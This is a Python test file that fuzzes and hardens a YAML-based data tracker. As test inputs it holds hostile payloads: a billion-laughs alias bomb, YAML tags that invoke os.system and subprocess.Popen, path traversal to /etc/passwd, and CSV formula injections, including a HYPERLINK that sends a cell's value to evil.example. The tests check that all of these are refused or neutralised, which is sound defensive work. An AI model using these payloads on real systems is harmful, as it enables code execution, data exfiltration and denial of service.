"""Hostile and broken input.

- Fuzzing (hypothesis): the real data files, mutated (keys deleted or duplicated, values of the wrong
  type, random Unicode, truncation, tabs, BOMs, CRLF, bytes that are not UTF-8), always end in
  located problems or success: never an exception, never a hang.
- Files built to hurt are refused with a clear message, within the time and memory stated for each
  (docs/performance.md lists the bounds). They run through `tracker validate` in a child process,
  so that a crash or a runaway fails the test instead of the test run, and the child's peak memory
  (ru_maxrss, from wait4) is measured on its own.
- Spreadsheet formulas written into any text field come out neutralised in both CSV exports, through
  `tracker export`.
"""

from __future__ import annotations

import contextlib
import csv
import io
import os
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tracker import quotes, store
from tracker.cli import main
from tracker.problems import Problem, display_path
from tracker.yamlsource import MAX_FILE_BYTES, MAX_NODES, parse_bytes, parse_text

from .helpers import REPO, TODAY

REAL_FILES = sorted(store.data_files(REPO))
EVIDENCE = "evidence/russian-ministers-visit.yaml"
ARTICLE = "articles/000_6b2447b7a3177c8d.txt"


# --------------------------------------------------------------------------- bounds


class Hang(Exception):
    pass


@contextlib.contextmanager
def time_limit(seconds: float) -> Iterator[None]:
    """Fail (rather than hang) when the block runs longer than `seconds` of wall time."""

    def expired(signum: int, frame: object) -> None:
        raise Hang(f"still running after {seconds} s")

    previous = signal.signal(signal.SIGALRM, expired)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)


def assert_located(problems: list[Problem], name: str) -> None:
    for problem in problems:
        assert problem.file == name, problem
        assert problem.line >= 1 and problem.column >= 1, problem
        assert problem.message and "\n" not in problem.message, problem


# --------------------------------------------------------------------------- fuzzing


def _lines(text: str) -> list[str]:
    return text.split("\n")


@st.composite
def mutated(draw: st.DrawFn) -> bytes:
    """A real data file with one to four mutations, as bytes (which need not be UTF-8)."""
    path = draw(st.sampled_from(REAL_FILES))
    text = path.read_text(encoding="utf-8")
    for _ in range(draw(st.integers(1, 4))):
        lines = _lines(text)
        at = draw(st.integers(0, len(lines) - 1))
        kind = draw(
            st.sampled_from(
                ["delete", "duplicate", "wrong-type", "unicode", "truncate", "tabs", "swap", "key", "indent"]
            )
        )
        if kind == "delete":  # a deleted key (or list item)
            del lines[at]
        elif kind == "duplicate":  # a duplicate key
            lines.insert(at, lines[at])
        elif kind == "wrong-type" and ":" in lines[at]:
            key, _, _ = lines[at].partition(":")
            value = draw(
                st.sampled_from(
                    [
                        "[1, 2]",
                        "{a: b}",
                        "42",
                        "-1.5",
                        "true",
                        "null",
                        "2020-13-45",
                        "''",
                        "[",
                        "{",
                        "|",
                        ">-",
                        "!!str 3",
                        "*x",
                        "&x y",
                        '"\\x"',
                        "~",
                    ]
                )
            )
            lines[at] = f"{key}: {value}"
        elif kind == "unicode":
            column = draw(st.integers(0, len(lines[at])))
            lines[at] = lines[at][:column] + draw(st.text(min_size=1, max_size=8)) + lines[at][column:]
        elif kind == "truncate":
            text = text[: draw(st.integers(0, len(text)))]
            continue
        elif kind == "tabs":
            lines[at] = re.sub(r"^( +)", lambda m: "\t" * draw(st.integers(1, len(m.group(1)))), lines[at])
        elif kind == "swap":
            other = draw(st.integers(0, len(lines) - 1))
            lines[at], lines[other] = lines[other], lines[at]
        elif kind == "key":  # a key renamed to something unknown or odd
            lines[at] = re.sub(
                r"^(\s*-?\s*)[a-z_]+:",
                lambda m: m.group(1) + draw(st.sampled_from(["qoute:", "id:", "<<:", "? ", "- ", "[a]:", '"":', "1:"])),
                lines[at],
            )
        elif kind == "indent":
            lines[at] = " " * draw(st.integers(0, 9)) + lines[at].lstrip(" ")
        text = "\n".join(lines)
    if draw(st.booleans()):
        text = text.replace("\n", "\r\n")
    raw = text.encode("utf-8", errors="surrogatepass")
    if draw(st.booleans()):
        raw = b"\xef\xbb\xbf" + raw  # a byte order mark
    if draw(st.integers(0, 9)) == 0:  # bytes that are not UTF-8 somewhere
        at = draw(st.integers(0, len(raw)))
        raw = raw[:at] + draw(st.binary(min_size=1, max_size=4)) + raw[at:]
    return raw


FUZZ = settings(max_examples=300, deadline=2_000, suppress_health_check=[HealthCheck.too_slow])


@pytest.mark.slow
@FUZZ
@given(raw=mutated())
def test_any_mutation_of_a_real_file_parses_to_data_or_located_problems(raw: bytes):
    path = Path("/data/evidence/fuzzed.yaml")
    with time_limit(10):
        doc, problems = parse_bytes(raw, path)
    assert_located(problems, doc.name)
    if not problems:
        assert doc.data is not None


@pytest.mark.slow
@FUZZ
@given(text=st.text(alphabet=st.characters(), max_size=300))
def test_random_unicode_text_parses_to_data_or_located_problems(text: str):
    # Any str, lone surrogates included (a command-line argument that was not UTF-8 can carry them).
    with time_limit(10):
        doc, problems = parse_text(text, Path("random.yaml"))
    assert_located(problems, doc.name)


@pytest.fixture(scope="module")
def fuzz_root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("fuzz") / "data"
    for sub in ("provisions", "evidence"):
        shutil.copytree(REPO / sub, root / sub)
    return root


@pytest.mark.slow
@settings(max_examples=120, deadline=5_000, suppress_health_check=[HealthCheck.too_slow])
@given(raw=mutated(), target=st.sampled_from(REAL_FILES))
def test_loading_a_root_with_a_mutated_file_gives_located_problems_or_success(
    fuzz_root: Path, raw: bytes, target: Path
):
    path = fuzz_root / target.relative_to(REPO)
    original = path.read_bytes()
    path.write_bytes(raw)
    try:
        with time_limit(20):
            dataset, problems = store.load(fuzz_root, today=TODAY)
    finally:
        path.write_bytes(original)
    names = {display_path(p) for p in store.data_files(fuzz_root)} | {display_path(fuzz_root)}
    for problem in problems:
        assert problem.file in names, problem
        assert problem.line >= 1 and problem.column >= 1 and problem.message, problem
    if not problems:
        assert dataset.provisions


# --------------------------------------------------------------------------- files built to hurt


@dataclass
class Run:
    returncode: int
    stdout: str
    stderr: str
    seconds: float
    peak_mb: float


# Runs `tracker` and reports its peak memory on exit. VmHWM is the high-water mark of the process's own
# address space since exec; ru_maxrss (wait4, getrusage) would also count the pages of the forked test
# process, which holds the hostile files it just wrote.
LAUNCHER = """
import atexit, sys
def report():
    with open('/proc/self/status') as status:
        for line in status:
            if line.startswith('VmHWM:'):
                sys.stderr.write('PEAK_KB ' + line.split()[1] + chr(10))
atexit.register(report)
from tracker.cli import main
sys.argv = ['tracker', *sys.argv[1:]]
main()
"""


def run_bounded(args: list[str], *, cwd: Path, timeout: float) -> Run:
    """Run `tracker ARGS` in its own process: its output, wall time and peak memory (VmHWM)."""
    if not Path("/proc/self/status").exists():
        pytest.skip("peak memory is read from /proc (Linux)")
    with tempfile.TemporaryFile() as out, tempfile.TemporaryFile() as err:
        started = time.perf_counter()
        proc = subprocess.Popen([sys.executable, "-c", LAUNCHER, *args], cwd=cwd, stdout=out, stderr=err)
        try:
            proc.wait(timeout=timeout)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait()
            pytest.fail(f"tracker {' '.join(args[:3])} ... still running after {timeout} s")
        seconds = time.perf_counter() - started
        out.seek(0)
        err.seek(0)
        stderr = err.read().decode(errors="replace")
        peak = re.search(r"^PEAK_KB (\d+)$", stderr, re.MULTILINE)
        assert peak, f"no peak memory reported (crashed?): {stderr[-2000:]}"
        stderr = stderr[: peak.start()] + stderr[peak.end() + 1 :]
        return Run(proc.returncode, out.read().decode(errors="replace"), stderr, seconds, int(peak.group(1)) / 1024)


def validate(root: Path, *, timeout: float = 60) -> Run:
    return run_bounded(["validate", "--root", str(root)], cwd=root, timeout=timeout)


@pytest.fixture(scope="module")
def baseline_mb(tmp_path_factory: pytest.TempPathFactory) -> float:
    """Peak memory of `tracker validate` on the bundled data: the interpreter and its libraries."""
    root = tmp_path_factory.mktemp("baseline") / "data"
    for sub in ("provisions", "evidence"):
        shutil.copytree(REPO / sub, root / sub)
    run = validate(root)
    assert run.returncode == 0, run.stderr
    return run.peak_mb


def hostile_root(tmp_path: Path) -> Path:
    root = tmp_path / "data"
    for sub in ("provisions", "evidence"):
        shutil.copytree(REPO / sub, root / sub)
    return root


def billion_laughs() -> bytes:
    lines = ['source: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, 10):
        name, previous = chr(ord("a") + i), chr(ord("a") + i - 1)
        lines.append(f"{name}: &{name} [" + ",".join([f"*{previous}"] * 9) + "]")
    return ("\n".join(lines) + "\n").encode()


def quote_file(quote_bytes: int) -> bytes:
    head = (
        "source:\n  id: big\n  title: Big\n  outlet: unknown\n  published: unknown\n  language: en\n"
        f"  text: {ARTICLE}\nevidence:\n  - id: BIG1\n    provisions: [nov2020-1]\n    stance: context\n"
        '    claimant: Someone\n    side: russia\n    event_date: 2020-11-22\n    quote: "'
    )
    # Words (a quote is at least three), so that the article is searched for the whole 15 MB.
    return head.encode() + (b"xxx " * (quote_bytes // 4))[:-1] + b'x"\n'


def indented_mappings(depth: int) -> bytes:
    return "\n".join(" " * i + "a:" for i in range(depth)).encode() + b" x\n"


# Each case: the file written (relative to the data root), its bytes, words the message must contain
# (None where the C parser may refuse first with its own words: then only the refusal and its place are
# pinned, never a dependency's wording), and the bounds: seconds after which the run counts as hung, and
# MB of memory above the baseline of `tracker validate`.
NESTS = None  # newer PyYAML wheels' libyaml cap nesting themselves, before the project's check sees the file
HURTFUL: dict[str, tuple[str, Callable[[], bytes], str | None, float, float]] = {
    "billion laughs (9 levels of 9 aliases: 10^9 strings)": (
        "evidence/lol.yaml",
        billion_laughs,
        "anchors and aliases (&name, *name) are not supported",
        10,
        50,
    ),
    "100,000 nested flow sequences": (
        "evidence/deep.yaml",
        lambda: b"a: " + b"[" * 100_000 + b"]" * 100_000,
        NESTS,
        10,
        50,
    ),
    "50,000 nested flow mappings": (
        "evidence/deep.yaml",
        lambda: b"a: " + b"{a: " * 50_000 + b"1" + b"}" * 50_000,
        NESTS,
        10,
        50,
    ),
    "50,000 nested block sequences on one line": ("evidence/deep.yaml", lambda: b"- " * 50_000 + b"x\n", NESTS, 10, 50),
    "2,000 nested block mappings, by indentation": (
        "evidence/deep.yaml",
        lambda: indented_mappings(2_000),
        NESTS,
        10,
        50,
    ),
    "a 50 MB quote": (
        "evidence/big.yaml",
        lambda: quote_file(50 * 2**20),
        f"YAML files over {MAX_FILE_BYTES // 2**20} MB are refused",
        10,
        100,
    ),
    "a 15 MB quote (under the file limit): not in its article": (
        "evidence/big.yaml",
        lambda: quote_file(15 * 2**20),
        "quote not found in",
        15,
        250,
    ),
    "a million values": (
        "evidence/many.yaml",
        lambda: b"a: [" + b"0," * 1_000_000 + b"0]\n",
        f"more than {MAX_NODES:,} values",
        10,
        100,
    ),
    "a million distinct keys and values": (
        "evidence/many.yaml",
        lambda: "".join(f"k{i}: {i}\n" for i in range(1_000_000)).encode(),
        f"more than {MAX_NODES:,} values",
        15,
        250,
    ),
    "a file in Latin-1": (
        "evidence/latin1.yaml",
        lambda: "source:\n  title: Erdoğan à Bakou\n".encode("latin-1", errors="replace"),
        "not valid UTF-8",
        10,
        50,
    ),
    "a file in UTF-16": (
        "evidence/utf16.yaml",
        lambda: "source:\n  title: Baku\n".encode("utf-16"),
        "not valid UTF-8",
        10,
        50,
    ),
    "Python object tags": (
        "evidence/pwn.yaml",
        lambda: b"source: !!python/object/apply:os.system ['touch PWNED']\nevidence: !!python/name:os.system\n",
        "the tag 'tag:yaml.org,2002:python/object/apply:os.system' is not allowed",
        10,
        50,
    ),
    "a Python object tag hidden in an evidence list": (
        "evidence/pwn.yaml",
        lambda: b"events:\n  - !!python/object/new:subprocess.Popen [['touch', 'PWNED']]\n",
        "the tag 'tag:yaml.org,2002:python/object/new:subprocess.Popen' is not allowed",
        10,
        50,
    ),
}


@pytest.mark.slow
@pytest.mark.parametrize("case", list(HURTFUL))
def test_a_file_built_to_hurt_is_refused_in_bounded_time_and_memory(case: str, tmp_path: Path, baseline_mb: float):
    relative, content, words, seconds, extra_mb = HURTFUL[case]
    root = hostile_root(tmp_path)
    (root / relative).write_bytes(content())
    run = validate(root, timeout=max(60, 3 * seconds))
    assert run.returncode == 1, run.stderr
    assert "Traceback" not in run.stderr, run.stderr[-2000:]
    if words is not None:
        assert words in run.stderr, run.stderr[-2000:]
    problems = [line for line in run.stderr.splitlines() if line.startswith(relative)]
    assert problems, run.stderr[-2000:]
    assert all(re.match(rf"{re.escape(relative)}:\d+:\d+: ", line) for line in problems)
    assert run.peak_mb < baseline_mb + extra_mb, f"{case}: {run.peak_mb:.0f} MB (baseline {baseline_mb:.0f} MB)"
    assert not (root / "PWNED").exists() and not Path("PWNED").exists()


def test_an_alias_bomb_is_refused_at_its_first_anchor_without_expanding(tmp_path: Path):
    root = hostile_root(tmp_path)
    (root / "evidence" / "lol.yaml").write_bytes(billion_laughs())
    (problem,) = [p for p in store.load(root, today=TODAY)[1] if p.file.endswith("lol.yaml")]
    assert (problem.line, problem.column) == (1, 9)
    assert "anchors and aliases" in problem.message


# ----- paths that leave the data root, and texts that cannot be read


def _point_article_at(root: Path, target: str) -> Path:
    path = root / EVIDENCE
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace(f"  text: {ARTICLE}", f"  text: {target}", 1), encoding="utf-8")
    return path


def _only(root: Path) -> str:
    problems = [str(p) for p in store.load(root, today=TODAY)[1]]
    assert len(problems) == 1, problems
    return problems[0]


@pytest.mark.parametrize(
    "target",
    [
        "../../../../../../../../etc/passwd",
        "articles/../../../etc/hostname",
        "/etc/passwd",
        "/dev/zero",
        "/proc/self/environ",
    ],
)
def test_an_article_path_leaving_the_root_is_refused(tmp_path: Path, target: str):
    root = hostile_root(tmp_path)
    path = _point_article_at(root, target)
    with time_limit(10):
        problem = _only(root)
    assert problem.startswith(f"{display_path(path)}:") and "points outside the data root" in problem


def test_a_dot_dot_path_that_stays_inside_the_root_is_fine(tmp_path: Path):
    root = hostile_root(tmp_path)
    _point_article_at(root, f"../evidence/{ARTICLE}")
    assert store.load(root, today=TODAY)[1] == []


def test_an_article_symlink_leaving_the_root_is_refused(tmp_path: Path):
    root = hostile_root(tmp_path)
    outside = tmp_path / "outside.txt"
    outside.write_bytes((root / "evidence" / ARTICLE).read_bytes())  # every quote would be found in it
    (root / "evidence" / "articles" / "link.txt").symlink_to(outside)
    _point_article_at(root, "articles/link.txt")
    assert "'articles/link.txt' points outside the data root" in _only(root)


def test_an_articles_folder_that_is_a_symlink_leaving_the_root_is_refused(tmp_path: Path):
    root = hostile_root(tmp_path)
    shutil.move(root / "evidence" / "articles", tmp_path / "elsewhere")
    (root / "evidence" / "articles").symlink_to(tmp_path / "elsewhere", target_is_directory=True)
    problems = [str(p) for p in store.load(root, today=TODAY)[1]]
    assert problems and all("points outside the data root" in p for p in problems)


def test_a_data_file_that_is_a_symlink_leaving_the_root_is_not_read(tmp_path: Path):
    root = hostile_root(tmp_path)
    secret = tmp_path / "secret.yaml"
    secret.write_text("password: hunter2\n", encoding="utf-8")
    (root / "evidence" / "secret.yaml").symlink_to(secret)
    problem = _only(root)
    assert problem.startswith(f"{display_path(root / 'evidence' / 'secret.yaml')}:1:1: ")
    assert "points outside the data root" in problem and "hunter2" not in problem and "password" not in problem


def test_an_article_that_is_a_pipe_is_refused_without_blocking(tmp_path: Path):
    root = hostile_root(tmp_path)
    os.mkfifo(root / "evidence" / "articles" / "pipe.txt")
    _point_article_at(root, "articles/pipe.txt")
    with time_limit(10):
        problem = _only(root)
    assert "'articles/pipe.txt' is not a regular file" in problem


def test_an_article_that_is_not_utf8_is_refused(tmp_path: Path):
    root = hostile_root(tmp_path)
    article = root / "evidence" / ARTICLE
    article.write_bytes(article.read_bytes().decode("utf-8").encode("utf-16"))
    assert f"text file '{ARTICLE}' is not valid UTF-8" in _only(root)


def test_an_article_over_the_limit_is_refused_unread(tmp_path: Path):
    root = hostile_root(tmp_path)
    article = root / "evidence" / ARTICLE
    with article.open("r+b") as handle:  # sparse: the size is there, the bytes need not be
        handle.truncate(store.MAX_ARTICLE_BYTES + 1)
    with time_limit(10):
        problem = _only(root)
    assert f"is larger than {store.MAX_ARTICLE_BYTES // 2**20} MB" in problem


@pytest.mark.slow
def test_a_hostile_article_under_the_limit_is_folded_in_bounded_time_and_memory(tmp_path: Path, baseline_mb: float):
    # Millions of whitespace runs and line breaks: the worst case for folding an article.
    root = hostile_root(tmp_path)
    article = root / "evidence" / ARTICLE
    original = article.read_bytes()
    filler = b"a  \n" * ((store.MAX_ARTICLE_BYTES - len(original) - 2) // 4)
    article.write_bytes(filler + b"\n" + original)
    run = validate(root)
    assert run.returncode == 0, run.stderr
    assert run.peak_mb < baseline_mb + 400, run.peak_mb  # a hang is caught by validate()'s timeout


def test_a_quote_of_thousands_of_ellipses_is_matched_in_linear_time():
    # A backtracking regex took half a minute on this (article length x quote length).
    article = quotes.Article("." * 300_000 + " end")
    with time_limit(10):
        assert article.find("..." * 20_000 + " end") is not None
        assert article.find("…" * 20_000 + " end") is not None
        assert article.find("…" * 20_000 + " nope") is None


def test_a_quote_of_thousands_of_ellipses_in_an_article_with_both_kinds_is_refused_fast(tmp_path: Path):
    root = hostile_root(tmp_path)
    article = root / "evidence" / ARTICLE
    article.write_bytes(article.read_bytes() + ("." * 300_000 + " end… and...").encode())
    path = root / EVIDENCE
    text = path.read_text(encoding="utf-8")
    text = re.sub(r"(?m)^    quote: .*$", '    quote: "' + "..." * 20_000 + ' end of it"', text, count=1)
    path.write_text(text, encoding="utf-8")
    with time_limit(10):
        problem = _only(root)
    assert "quote not checked against" in problem
    assert "the quote has 20000 ellipses and the article prints both '...' and '…'" in problem


# --------------------------------------------------------------------------- the fast quote matcher


_FOLD_CLASSES = {
    '"': "[" + re.escape(quotes._DOUBLE) + "]",
    "'": "[" + re.escape(quotes._SINGLE) + "]",
    "-": "[" + re.escape(quotes._DASH) + "]",
}


def _on_word_boundaries(text: str, start: int, end: int) -> bool:
    inside_at_start = start > 0 and text[start].isalnum() and text[start - 1].isalnum()
    inside_at_end = end < len(text) and text[end - 1].isalnum() and text[end].isalnum()
    return not (inside_at_start or inside_at_end)


def reference_find(quote: str, article: str) -> tuple[int, int, int, int] | None:
    """The matcher quotes.find replaced (one regex per quote, run on the article as it is), with the rule
    added since: the leftmost match that starts and ends on word boundaries of the article."""
    text = re.sub(r"\s+", " ", quote.translate(quotes._FOLD).replace("…", "...")).strip()
    if not text:
        return None
    parts, i = [], 0
    while i < len(text):
        if text.startswith("...", i):
            parts.append(r"(?:\.\.\.|…)")
            i += 3
            continue
        ch = text[i]
        parts.append(r"[\s" + quotes._SPACE_CHARS + r"]+" if ch == " " else _FOLD_CLASSES.get(ch, re.escape(ch)))
        i += 1
    pattern = re.compile("".join(parts))
    match = pattern.search(article)
    while match is not None and not _on_word_boundaries(article, match.start(), match.end()):
        match = pattern.search(article, match.start() + 1)
    if match is None:
        return None
    line = article.count("\n", 0, match.start()) + 1
    return match.start(), match.end(), line, match.start() - (article.rfind("\n", 0, match.start()) + 1) + 1


# Letters, dots and ellipses, every kind of space, and quotes and dashes straight and curly.
TYPOGRAPHY = st.sampled_from(
    [*"ab.\u2026 \n\t\r\u00a0\u2009\u3000\u2028\x85\"\u201c\u201d'\u2018\u2019`-\u2013\u2014x", "...", "  "]
)


@settings(max_examples=1_500, deadline=None)
@given(
    article=st.lists(TYPOGRAPHY, max_size=40).map("".join),
    cut=st.tuples(st.integers(0, 40), st.integers(0, 40)),
    noise=st.lists(st.tuples(st.integers(0, 40), TYPOGRAPHY), max_size=3),
    block=st.sampled_from([1, 3, 7, quotes.Article.BLOCK]),
)
@pytest.mark.slow
def test_the_fast_quote_matcher_finds_exactly_what_the_regex_did(article: str, cut, noise, block: int):
    quote = article[min(cut) : max(cut)]
    for at, text in noise:
        quote = quote[:at] + text + quote[at:]
    folded = quotes.Article.__new__(quotes.Article)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(quotes.Article, "BLOCK", block)  # tiny blocks: every block boundary is exercised
        folded.__init__(article)  # type: ignore[misc]
    span = folded.find(quote)
    assert (None if span is None else (span.start, span.end, span.line, span.column)) == reference_find(quote, article)
    assert quotes.canonical(quote) == re.sub(r"\s+", " ", quote.translate(quotes._FOLD).replace("…", "...")).strip()


# --------------------------------------------------------------------------- CSV formula payloads


PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click for details")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1 after a tab",
    "\n=1+1 after a line break",  # a carriage return is a control character: refused in the data
    "\uff1d1+1 with a full-width equals sign",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def _yaml_string(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\n", "\\n") + '"'


def payload_root(tmp_path: Path) -> Path:
    """A small valid data root whose every free-text field starts with a formula."""
    root = tmp_path / "data"
    (root / "provisions" / "texts").mkdir(parents=True)
    (root / "evidence" / "articles").mkdir(parents=True)
    (root / "provisions" / "actors.yaml").write_text(
        "actors:\n  - id: east\n    name: " + _yaml_string(PAYLOADS[0]) + "\n    kind: state\n    role: party\n"
        "  - id: west\n    name: " + _yaml_string(PAYLOADS[1]) + "\n    kind: state\n    role: party\n",
        encoding="utf-8",
    )
    texts = [f"{p} is the text of point {n}." for n, p in enumerate(PAYLOADS, 1)]
    (root / "provisions" / "texts" / "a.md").write_text("\n\n".join(texts) + "\n", encoding="utf-8")
    agreement = [
        "agreement:",
        "  id: a",
        "  title: " + _yaml_string(PAYLOADS[2]),
        "  short_title: " + _yaml_string(PAYLOADS[3]),
        "  date: 2020-01-09",
        "  signatories:",
        "    - name: X",
        "      role: Y",
        "      actor: east",
        "  sources:",
        "    - id: T",
        "      title: " + _yaml_string(PAYLOADS[4]),
        "  text_file: texts/a.md",
        "provisions:",
    ]
    for n, (payload, text) in enumerate(zip(PAYLOADS, texts, strict=True), 1):
        agreement += [
            f"  - id: p{n}",
            f"    point: {n}",
            "    clause: " + _yaml_string(payload),
            "    title: " + _yaml_string(payload),
            "    text: " + _yaml_string(text),
            "    translation: T",
            "    category: other",
            "    parties: [east, west]",
            "    obligation: ongoing",
            "    note: " + _yaml_string(payload),
        ]
    (root / "provisions" / "a.yaml").write_text("\n".join(agreement) + "\n", encoding="utf-8")
    sentences = [f"{p} said the source, in sentence {n}." for n, p in enumerate(PAYLOADS, 1)]
    (root / "evidence" / "articles" / "s.txt").write_text("\n".join(sentences) + "\n", encoding="utf-8")
    source = [
        "source:",
        "  id: s",
        "  title: " + _yaml_string(PAYLOADS[5]),
        "  outlet: " + _yaml_string(PAYLOADS[6]),
        "  published: 2020-02-01",
        "  byline: " + _yaml_string(PAYLOADS[0]),
        "  language: en",
        "  text: articles/s.txt",
        "  note: " + _yaml_string(PAYLOADS[1]),
        "evidence:",
    ]
    events = ["events:"]
    for n, (payload, sentence) in enumerate(zip(PAYLOADS, sentences, strict=True), 1):
        source += [
            f"  - id: E{n}",
            "    quote: " + _yaml_string(sentence),
            f"    provisions: [p{n}]",
            "    stance: progress",
            "    claimant: " + _yaml_string(payload),
            "    side: east",
            "    concerns: [west]",
            "    event_date: 2020-02-01",
            "    note: " + _yaml_string(payload),
        ]
        events += [
            f"  - id: V{n}",
            "    summary: " + _yaml_string(payload),
            "    quotation: " + _yaml_string(payload),
            "    urls: [https://example.org/report]",
            "    outlet: " + _yaml_string(payload),
            "    published: 2020-02-02",
            f"    provisions: [p{n}]",
            "    stance: stalled",
            "    claimant: " + _yaml_string(payload),
            "    side: west",
            "    event_date: 2020-02-02",
            "    verification: read",
            "    note: " + _yaml_string(payload),
        ]
    (root / "evidence" / "s.yaml").write_text("\n".join(source) + "\n", encoding="utf-8")
    (root / "evidence" / "events.yaml").write_text("\n".join(events) + "\n", encoding="utf-8")
    return root


@pytest.mark.parametrize("table", ["status", "evidence"])
def test_formula_payloads_in_every_text_field_are_neutralised_in_the_export(tmp_path: Path, table: str):
    root = payload_root(tmp_path)
    assert store.load(root, today=TODAY)[1] == []
    result = CliRunner().invoke(main, ["export", "--root", str(root), "--table", table, "--as-of", "2020-06-30"])
    assert result.exit_code == 0, result.output
    data = result.stdout_bytes
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    header, body = rows[0], rows[1:]
    assert len(body) == len(PAYLOADS) * (1 if table == "status" else 2)
    for row in body:
        for column, cell in zip(header, row, strict=True):
            assert not cell.startswith(FORMULA_START), f"{table}.{column} = {cell!r}"
    # Every payload reached the file, each time behind the apostrophe that disarms it.
    cells = [cell for row in body for cell in row]
    for payload in PAYLOADS:
        assert "'" + payload in cells, payload
    fields = {
        "status": {"title", "clause"},
        "evidence": {"quote", "claimant", "note", "summary", "quotation", "outlet", "source_title"},
    }[table]
    for column in fields:
        values = [row[header.index(column)] for row in body if row[header.index(column)]]
        assert values and all(v.startswith("'") for v in values), column
